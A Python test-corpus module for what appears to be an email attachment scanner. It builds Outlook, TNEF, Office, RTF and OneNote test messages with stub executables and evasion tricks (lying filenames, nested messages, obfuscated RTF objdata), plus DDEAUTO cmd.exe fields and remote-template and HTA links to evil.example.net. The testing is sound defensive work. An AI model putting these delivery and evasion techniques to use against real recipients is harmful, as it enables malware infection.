"""Documents in formats of their own: Outlook's messages, TNEF, Compound Files, RTF, OneNote (rows C04, C07, C17)."""

from __future__ import annotations

import binascii
import zlib
from collections.abc import Iterator

from tests.corpus import office
from tests.corpus.case import Case
from tests.corpus.compound_file import Tree, compound_file
from tests.corpus.payloads import STUB, TEXT, encoded, multipart

EXECUTABLE = frozenset({"attachment.executable"})
MACRO = frozenset({"attachment.macro"})
ACTIVE = frozenset({"attachment.active_content"})
ENCRYPTED = frozenset({"attachment.encrypted"})
UNREAD = frozenset({"attachment.uninspectable"})
HELD = frozenset({"structure.ambiguous", "attachment.uninspectable"})

DOC, XLS, PPT = b"application/msword", b"application/vnd.ms-excel", b"application/vnd.ms-powerpoint"
DOCX = office.DOCX.encode()
MSG, TNEF, RTF = b"application/vnd.ms-outlook", b"application/ms-tnef", b"application/rtf"


def binary_cases() -> Iterator[Case]:
    yield from _outlook()
    yield from _tnef()
    yield from _ole()
    yield from _rtf()
    yield from _onenote()


def mail(name: bytes, content: bytes, media_type: bytes = b"application/octet-stream") -> bytes:
    return multipart(TEXT, encoded(name, content, media_type))


def found(row: str, what: str, codes: frozenset[str], message: bytes) -> Case:
    return Case(row, what, message, all_of=codes, none_of=frozenset({"structure.ambiguous"}))


# --- C04 --------------------------------------------------------------------------------------------------------------


def _outlook() -> Iterator[Case]:
    long, short, shown, short8 = "3707001F", "3704001F", "3001001F", "3704001E"
    evil = office.msg_attachment(STUB, (long, "evil.exe"), (short, "EVIL.EXE"))
    for what, attachment in {
        "attachment": evil,
        "without-name": office.msg_attachment(STUB),
        "lying-name": office.msg_attachment(STUB, (long, "photo.jpg")),
        "only-short-name": office.msg_attachment(b"MSDOS", (short, "EVIL.COM"), (shown, "picture")),
        "name-in-8-bit": office.msg_attachment(b"MSDOS", (short8, "evil.com")),
        "second-name": office.msg_attachment(b"MSDOS", (long, "a.txt"), (short, "A.SCR")),
    }.items():
        yield found("C04", what, EXECUTABLE, mail(b"a.msg", compound_file(office.msg_tree(attachment)), MSG))
    whole = compound_file(office.msg_tree(evil))
    yield found("C04", "octet-stream", EXECUTABLE, mail(b"a.dat", whole))
    yield found("C04", "in-zip", EXECUTABLE, mail(b"a.zip", office.zipped({"a.msg": whole})))
    nested = office.msg_tree(_embedding(office.msg_tree(_embedding(office.msg_tree(evil)))))
    yield found("C04", "message-in-message-in-message", EXECUTABLE, mail(b"a.msg", compound_file(nested), MSG))
    ole = {"\1Ole10Native": office.ole10_native(STUB, b"evil.exe")}
    stored: Tree = {"__properties_version1.0": bytes(8), "__substg1.0_3701000D": ole}
    yield found("C04", "ole-object", EXECUTABLE, mail(b"a.msg", compound_file(office.msg_tree(stored)), MSG))
    yield Case("C04", "broken", mail(b"a.msg", whole[:700], MSG), any_of=HELD)
    plain = office.msg_tree(office.msg_attachment(b"Good morning", (long, "a.txt")))
    inner = office.msg_tree(_embedding(office.msg_tree(), "Re: example.com"))
    yield Case("C04", "harmless", mail(b"a.msg", compound_file(plain), MSG), passes=True)
    yield Case("C04", "harmless-subject-like-a-program", mail(b"a.msg", compound_file(inner), MSG), passes=True)


def _embedding(message: Tree, subject: str = "Fwd") -> Tree:
    shown = {"__substg1.0_3001001F": subject.encode("utf-16-le")}
    return {"__properties_version1.0": bytes(8), "__substg1.0_3701000D": message, **shown}


# --- C07 --------------------------------------------------------------------------------------------------------------


def _tnef() -> Iterator[Case]:
    names = office.tnef_properties((0x3707, 0x1F, "evil.scr".encode("utf-16-le") + b"\0\0"), (0x3704, 0x1E, b"A.TXT\0"))
    short = office.tnef(office.tnef_file(STUB, b"EVIL.EXE"))
    yield found("C07", "winmail", EXECUTABLE, mail(b"winmail.dat", short, TNEF))
    yield found("C07", "renamed", EXECUTABLE, mail(b"a.dat", short))
    yield found("C07", "vnd", EXECUTABLE, mail(b"a.dat", short, b"application/vnd.ms-tnef"))
    long_only = office.tnef(office.tnef_file(b"MSDOS", b"A.TXT", names))
    yield found("C07", "long-name-only-in-mapi", EXECUTABLE, mail(b"winmail.dat", long_only, TNEF))
    title = office.tnef(office.tnef_file(b"MSDOS", b"EVIL.COM", office.tnef_properties((0x3707, 0x1E, b"a.txt\0"))))
    yield found("C07", "program-only-in-title", EXECUTABLE, mail(b"winmail.dat", title, TNEF))
    wrong = office.tnef(office.tnef_file(STUB, b"EVIL.EXE", checksum=0x1234))
    yield found("C07", "broken-checksum", EXECUTABLE, mail(b"winmail.dat", wrong, TNEF))
    two = office.tnef(office.tnef_file(b"Good morning", b"A.TXT"), office.tnef_file(STUB, b"B.TXT"))
    yield found("C07", "second-attachment", EXECUTABLE, mail(b"winmail.dat", two, TNEF))
    inner = bytes.fromhex("0703020000000000c000000000000046") + short
    nested = office.tnef(office.tnef_file(b"", b"", office.tnef_properties((0x3701, 0x0D, inner))))
    yield found("C07", "message-inside", EXECUTABLE, mail(b"winmail.dat", nested, TNEF))
    cut = short[: len(short) - 200]
    yield Case("C07", "cut-short", mail(b"winmail.dat", cut, TNEF), any_of=EXECUTABLE | UNREAD)
    yield Case("C07", "undecodable", mail(b"winmail.dat", b"\0" * 200, TNEF), any_of=HELD)
    yield Case("C07", "broken-attributes", mail(b"winmail.dat", short[:40] + b"\7" * 99, TNEF), any_of=HELD)
    harmless = office.tnef(office.tnef_file(b"Good morning", b"A.TXT"))
    yield Case("C07", "harmless", mail(b"winmail.dat", harmless, TNEF), passes=True)


# --- C17: Compound Files ----------------------------------------------------------------------------------------------


def _ole() -> Iterator[Case]:
    yield found("C17", "doc-with-vba", MACRO, mail(b"a.doc", office.word(streams={"Macros": office.VBA}), DOC))
    project = compound_file({"Workbook": office.workbook(), "_VBA_PROJECT_CUR": office.VBA})
    yield found("C17", "xls-with-vba", MACRO, mail(b"a.xls", project, XLS))
    sheet = office.workbook(0x40)
    yield found("C17", "xls-with-xlm", MACRO, mail(b"a.xls", compound_file({"Workbook": sheet}), XLS))
    denied = office.workbook(0x40, kind=0)
    yield found("C17", "xls-with-denied-xlm", MACRO, mail(b"a.xls", compound_file({"Workbook": denied}), XLS))
    yield found("C17", "xls-with-xlm-without-ole", MACRO, mail(b"a.xls", sheet, XLS))
    for what, native in {
        "package-exe": office.ole10_native(STUB, b"evil.exe"),
        "package-exe-lying-label": office.ole10_native(STUB, b"invoice.pdf", b"a.pdf", b"a.pdf"),
        "package-name-only-in-source": office.ole10_native(b"MSDOS", b"a.txt", b"C:\\x\\evil.com", b"a.txt"),
        "package-name-only-in-temp": office.ole10_native(b"MSDOS", b"a.txt", b"a.txt", b"C:\\T\\evil.com"),
        "native-exe": b"\0\2\0\0" + STUB,
    }.items():
        objects: Tree = {"ObjectPool": {"_1234567890": {"\1CompObj": b"", "\1Ole10Native": native}}}
        yield found("C17", f"doc-{what}", EXECUTABLE, mail(b"a.doc", office.word(streams=objects), DOC))
    sheets: Tree = {"Workbook": office.workbook(), "MBD00112233": {"Package": office.zipped({"evil.exe": STUB})}}
    yield found("C17", "xls-with-package-stream", EXECUTABLE, mail(b"a.xls", compound_file(sheets), XLS))
    slides = compound_file({"PowerPoint Document": _slide_object(), "Current User": bytes(20)})
    yield found("C17", "ppt-with-package", EXECUTABLE, mail(b"a.ppt", slides, PPT))
    secret = compound_file({"EncryptionInfo": bytes(8), "EncryptedPackage": bytes(64)})
    yield found("C17", "encrypted-ooxml", ENCRYPTED, mail(b"a.docx", secret, DOCX))
    yield found("C17", "encrypted-doc", ENCRYPTED, mail(b"a.doc", office.word(0x0100), DOC))
    locked = office.workbook(0x10, office.record(0x2F, bytes(54)))
    yield found("C17", "encrypted-xls", ENCRYPTED, mail(b"a.xls", compound_file({"Workbook": locked}), XLS))
    users = compound_file({"PowerPoint Document": b"", "Current User": bytes(12) + b"\xdf\xc4\xd1\xf3" + bytes(4)})
    yield found("C17", "encrypted-ppt", ENCRYPTED, mail(b"a.ppt", users, PPT))
    field = office.word(text=b"Hello \x13 DDEAUTO c:\\\\cmd.exe \x14x\x15")
    yield found("C17", "doc-with-dde", ACTIVE, mail(b"a.doc", field, DOC))
    url = (
        bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
        + bytes(4)
        + "http://evil.example.net/x.hta\0".encode("utf-16-le")
    )
    moniker = office.word(streams={"ObjectPool": {"_1": {"\1Ole": bytes(20) + url}}})
    yield found("C17", "doc-with-url-moniker", ACTIVE, mail(b"a.doc", moniker, DOC))
    yield Case("C17", "broken-doc", mail(b"a.doc", office.word()[:520], DOC), any_of=HELD)
    embedded: Tree = {"ObjectPool": {"_1": {"\1Ole10Native": office.ole10_native(b"Good morning", b"a.txt")}}}
    yield Case("C17", "harmless-doc", mail(b"a.doc", office.word(streams=embedded), DOC), passes=True, none_of=MACRO)
    plain = compound_file({"Workbook": office.workbook()})
    yield Case("C17", "harmless-xls", mail(b"a.xls", plain, XLS), passes=True, none_of=MACRO | ENCRYPTED)


def _slide_object() -> bytes:
    """ExOleObjStg, deflated ([MS-PPT] 2.10.34)."""
    inner = compound_file({"\1Ole10Native": office.ole10_native(STUB, b"evil.exe")})
    body = len(inner).to_bytes(4, "little") + zlib.compress(inner)
    return bytes(64) + b"\x10\0\x11\x10" + len(body).to_bytes(4, "little") + body


# --- C17: RTF, OneNote ------------------------------------------------------------------------------------------------


def _rtf() -> Iterator[Case]:
    hex_ = binascii.hexlify(office.ole1(b"Package", office.package(STUB, b"evil.exe")))
    lines = b"\r\n".join(hex_[at : at + 64] for at in range(0, len(hex_), 64))
    spaced = b"\t \r\n".join(hex_[at : at + 1] for at in range(len(hex_)))
    half = len(hex_) // 2 & ~1
    for what, data in {
        "package": b"{\\object\\objemb{\\*\\objdata " + lines + b"}}",
        "junk-between-digits": b"{\\object{\\*\\objdata " + spaced + b"}}",
        "control-words-between": b"{\\object{\\objdata " + hex_[:half] + b"\\foo12 \\bar " + hex_[half:] + b"}}",
        "groups-between": b"{\\object{\\objdata " + hex_[:half] + b"{\\*\\abc 41424344}" + hex_[half:] + b"}}",
        "digits-in-groups": b"{\\object{\\objdata {" + hex_[:half] + b"}{{" + hex_[half:] + b"}}}}",
        "escapes-between": b"{\\object{\\objdata " + hex_[:half] + b"\\'zz" + hex_[half:] + b"}}",
        "bin": b"{\\object{\\objdata " + hex_[:half] + b"\\bin%d " % (len(hex_) // 2 - half // 2)
        + binascii.unhexlify(hex_[half:]) + b"}}",
        "false-start": b"{\\object{\\objdata 0105{\\*\\objdata " + hex_ + b"}}}",
        "unclosed": b"{\\object{\\objdata " + hex_,
    }.items():  # fmt: skip
        yield found("C17", f"rtf-{what}", EXECUTABLE, mail(b"a.rtf", b"{\\rtf1\\ansi " + data + b"}", RTF))
    one = b"{\\object{\\*\\objdata " + lines + b"}}}"
    for what, start in {
        "short-header": b"{\\rt",
        "odd-version": b"{\\rtxa9",
        "blanks-before": b"\r\n  {\\rtf1",
    }.items():
        yield found("C17", f"rtf-{what}", EXECUTABLE, mail(b"a.rtf", start + one, RTF))
    yield found("C17", "rtf-as-doc", EXECUTABLE, mail(b"a.doc", b"{\\rtf1" + one, DOC))
    storage = compound_file({"\1Ole10Native": office.ole10_native(STUB, b"evil.exe")})
    inner = binascii.hexlify(office.ole1(b"Word.Document.8", storage))
    yield found("C17", "rtf-ole2", EXECUTABLE, mail(b"a.rtf", b"{\\rtf1{\\object{\\objdata " + inner + b"}}}", RTF))
    odd = binascii.hexlify(b"\xff" * 37 + storage)
    yield found("C17", "rtf-ole2-behind-junk", EXECUTABLE, mail(b"a.rtf", b"{\\rtf1{\\objdata " + odd + b"}}", RTF))
    for what, body in {
        "template": b"{\\*\\template http://evil.example.net/t.dotm}",
        "template-escaped": b"{\\*\\template \\'68ttp://evil.example.net/t.dotm}",
        "objupdate": b"{\\object\\objautlink\\objupdate{\\*\\objdata 00}}",
        "dde": b"{\\field{\\*\\fldinst {\\insrsid1 DD}{\\insrsid2 EAUTO c:\\\\cmd.exe}}}",
    }.items():
        yield found("C17", f"rtf-{what}", ACTIVE, mail(b"a.rtf", b"{\\rtf1\\ansi " + body + b"}", RTF))
    picture = b"{\\pict\\pngblip " + binascii.hexlify(b"\x89PNG\r\n\x1a\n" + bytes(90)) + b"}"
    local = b'{\\*\\template C:\\\\Templates\\\\Normal.dot}{\\field{\\*\\fldinst HYPERLINK "http://example.net"}}'
    yield Case("C17", "harmless-rtf", mail(b"a.rtf", b"{\\rtf1\\ansi " + local + picture + b"Hi}", RTF), passes=True)


def _onenote() -> Iterator[Case]:
    yield found("C17", "one-with-exe", EXECUTABLE, mail(b"a.one", office.one_section(STUB)))
    script = office.one_section(b"echo off", "invoice.bat")
    yield found("C17", "one-with-script", frozenset({"attachment.script"}), mail(b"a.one", script))
    packaged = office.one_section(b"").replace(bytes.fromhex("3fdd9a101b91f549a5d01791edc8aed8"), bytes(16))
    yield Case("C17", "one-packaged", mail(b"a.one", packaged), any_of=HELD)
    yield Case("C17", "harmless-one", mail(b"a.one", office.one_section(b"\x89PNG\r\n\x1a\n", "a.png")), passes=True)
